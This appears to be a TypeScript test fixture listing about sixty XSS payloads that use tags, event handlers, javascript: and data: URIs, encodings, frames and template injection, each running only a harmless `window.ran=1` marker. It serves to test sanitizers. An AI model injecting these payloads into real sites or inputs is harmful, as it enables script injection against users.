/** Sixty ways to make a page run what was typed (X3): tags, attributes, schemes, encodings, frames, styles, templates. Each would set `window.ran`. */
const js = 'window.ran=1';
const b64 = 'PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=';
export const payloads: readonly string[] = [
  `<script>${js}</script>`, `<ScRiPt>${js}</sCrIpT>`, `<script src=data:,${js}></script>`, `"><script>${js}</script>`, `'><script>${js}</script>`, `</textarea><script>${js}</script>`, `</title><script>${js}</script>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`, `<script/x>${js}</script>`, `<script\n>${js}</script>`, `<<script>${js}//<</script>`, `--><script>${js}</script>`, `]]><script>${js}</script>`, `<svg><script>${js}</script></svg>`,
  `<img src=x onerror=${js}>`, `<img/src/onerror=${js}>`, `<img src="x" onerror="${js}">`, `<img src=x:x onerror=${js}//`, `"><img src=x onerror=${js}>`, `' onerror='${js}' x='`, `" onload="${js}" x="`, `<img src=x oNeRrOr=${js}>`, `<img srcset=x onerror=${js}>`, `<image src=x onerror=${js}>`,
  `<svg onload=${js}>`, `<svg/onload=${js}>`, `<svg><animate onbegin=${js} attributeName=x dur=1s>`, `<svg><set onbegin=${js} attributename=x>`, `<svg><a xlink:href="javascript:${js}"><text>点</text></a></svg>`, `<math><maction actiontype="statusline#" xlink:href="javascript:${js}">点</maction></math>`,
  `<body onload=${js}>`, `<body onpageshow=${js}>`, `<iframe src="javascript:${js}">`, `<iframe srcdoc="<script>parent.ran=1</script>">`, `<iframe onload=${js}>`, `<object data="javascript:${js}">`, `<object data="data:text/html;base64,${b64}">`, `<embed src="javascript:${js}">`, `<embed src="data:text/html;base64,${b64}">`,
  `<a href="javascript:${js}">点</a>`, `<a href="java\tscript:${js}">点</a>`, `<a href="&#106;avascript:${js}">点</a>`, `<a href="data:text/html,<script>${js}</script>">点</a>`, `[点](javascript:${js})`, `<form action="javascript:${js}"><button>点</button></form>`, `<button formaction="javascript:${js}">点</button>`, `<isindex action="javascript:${js}">`,
  `<input autofocus onfocus=${js}>`, `<select autofocus onfocus=${js}>`, `<textarea autofocus onfocus=${js}>`, `<details open ontoggle=${js}>`, `<video><source onerror=${js}></video>`, `<audio src=x onerror=${js}>`, `<marquee onstart=${js}>`, `<style>@import 'javascript:${js}'</style>`, `<div style="background:url(javascript:${js})">`, `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  `<base href="javascript:${js}//">`, `{{constructor.constructor('${js}')()}}`, `\${window.ran=1}`,
];
